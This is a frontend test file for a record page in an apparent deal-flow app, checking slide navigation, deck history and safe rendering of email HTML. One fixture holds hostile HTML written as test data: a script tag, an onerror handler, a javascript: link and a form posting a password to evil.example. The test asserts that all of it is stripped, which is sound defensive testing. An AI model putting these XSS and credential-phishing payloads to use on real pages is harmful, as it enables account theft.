import { describe, expect, it } from 'vitest';
import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { Route, Routes } from 'react-router-dom';
import type { TRecordMessage } from '@dealflow/contracts';
import { answerApi, createSession, renderPage } from '../test/render.js';
import { createRecord } from '../test/records.js';
import RecordPage from './RecordPage.js';

const session = createSession({ user: { name: 'Ivy' } });

const HOSTILE_HTML = `<p>Hello investors</p>
<script>window.parent.hacked = true</script>
<img src="https://tracker.example/pixel.gif" alt="pixel" onerror="alert(1)">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
<form action="https://evil.example/steal" method="post"><input name="password"><button>Send</button></form>
<a href="javascript:alert(1)">click</a>`;

function message(overrides: Partial<TRecordMessage> = {}): TRecordMessage {
  return {
    id: 7,
    from: 'Ada Founder',
    fromEmail: 'ada@orbital-labs.com',
    subject: 'Orbital Labs deck',
    receivedAt: new Date().toISOString(),
    text: 'Hello investors, our deck is attached.',
    html: HOSTILE_HTML,
    attachments: [
      {
        id: 3,
        filename: 'orbital.pptx',
        contentType: 'application/vnd.openxmlformats-officedocument.presentationml.presentation',
        size: 40_000,
        downloadPath: '/api/emails/7/attachments/3',
      },
    ],
    deck: {
      attachmentId: 3,
      filename: 'orbital.pptx',
      contentType: 'application/vnd.openxmlformats-officedocument.presentationml.presentation',
      kind: 'pptx',
      size: 40_000,
      viewerUrl: '/api/emails/7/deck?expires=1&signature=' + 'a'.repeat(64),
      expiresAt: new Date().toISOString(),
      slides: [
        ['Orbital Labs'],
        ['The problem', 'Satellites wait months'],
        ['Raising a $2.5M Seed', 'Berlin'],
      ],
    },
    history: [],
    extractedData: null,
    ...overrides,
  };
}

function renderRecord(msg: TRecordMessage) {
  const record = createRecord({
    id: 7,
    provenance: {
      fundingAmount: { source: 'deck', page: 3, snippet: 'Raising a $2.5M Seed', confidence: 0.9 },
      companyName: { source: 'deck', page: 1, snippet: 'Orbital Labs', confidence: 0.95 },
    },
  });
  answerApi((url) => {
    if (url.pathname === '/api/auth/me') return { body: session };
    if (url.pathname === '/api/emails/7') return { body: record };
    if (url.pathname === '/api/emails/7/message') return { body: msg };
    return undefined;
  });
  renderPage(
    <Routes>
      <Route path="/records/:id" element={<RecordPage />} />
    </Routes>,
    { path: '/records/7' },
  );
}

describe('Record page', () => {
  it('clicking a field opens its slide and highlights the evidence snippet', async () => {
    renderRecord(message());
    expect((await screen.findByTestId('deck-slide')).getAttribute('aria-label')).toBe('Slide 1');
    await userEvent.click(screen.getByRole('button', { name: /Amount: \$2\.5M/ }));
    const slide = await screen.findByRole('region', { name: 'Slide 3' });
    expect(within(slide).getByText('Raising a $2.5M Seed').tagName).toBe('MARK');
    expect(within(slide).getByText('Berlin').tagName).toBe('P');
    const thumbs = screen.getByRole('navigation', { name: 'Slides' });
    expect(within(thumbs).getByRole('button', { name: 'Slide 3' }).getAttribute('aria-current')).toBe('page');
    // Page jump.
    await userEvent.type(screen.getByLabelText('Go to slide'), '2');
    await userEvent.click(screen.getByRole('button', { name: 'Go' }));
    expect(await screen.findByRole('region', { name: 'Slide 2' })).toBeTruthy();
    expect(screen.getByRole('link', { name: 'Download orbital.pptx' }).getAttribute('href')).toBe(
      '/api/emails/7/deck',
    );
  });

  it('shows an HTML email with a script, a remote image and a form inert: sanitized, sandboxed, no network', async () => {
    renderRecord(message());
    expect(await screen.findByText('Hello investors, our deck is attached.')).toBeTruthy();
    await userEvent.click(screen.getByRole('tab', { name: 'HTML' }));
    const frame = screen.getByTitle('The email as HTML') as HTMLIFrameElement;
    expect(frame.getAttribute('sandbox')).toBe('');
    const doc = frame.getAttribute('srcdoc')!;
    expect(doc).toContain(`content="default-src 'none'; img-src data:; style-src 'unsafe-inline'"`);
    expect(doc).toContain('Hello investors');
    expect(doc).not.toMatch(/<script/i);
    expect(doc).not.toContain('hacked');
    expect(doc).not.toContain('tracker.example');
    expect(doc).not.toMatch(/onerror/i);
    expect(doc).not.toMatch(/<form|<input|<button/i);
    expect(doc).not.toContain('evil.example');
    expect(doc).not.toContain('javascript:');
    expect(doc).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect((window as unknown as { hacked?: boolean }).hacked).toBeUndefined();
    expect(screen.getByRole('link', { name: 'orbital.pptx' }).getAttribute('href')).toBe(
      '/api/emails/7/attachments/3',
    );
  });

  it("shows the company's earlier decks with what changed", async () => {
    renderRecord(
      message({
        history: [
          {
            id: 2,
            receivedAt: '2026-01-01T00:00:00Z',
            subject: 'Pre-seed deck',
            fundingRound: 'Pre-seed',
            fundingAmount: '$500k',
            changes: [],
          },
          {
            id: 7,
            receivedAt: '2026-06-01T00:00:00Z',
            subject: 'Orbital Labs deck',
            fundingRound: 'Seed',
            fundingAmount: '$2.5M',
            changes: [{ field: 'Amount', before: '$500k', after: '$2.5M' }],
          },
        ],
      }),
    );
    expect(await screen.findByRole('link', { name: 'Pre-seed deck' })).toBeTruthy();
    expect(screen.getByText('Amount: $500k → $2.5M')).toBeTruthy();
    await waitFor(() => expect(screen.getByText('This deck')).toBeTruthy());
  });
});
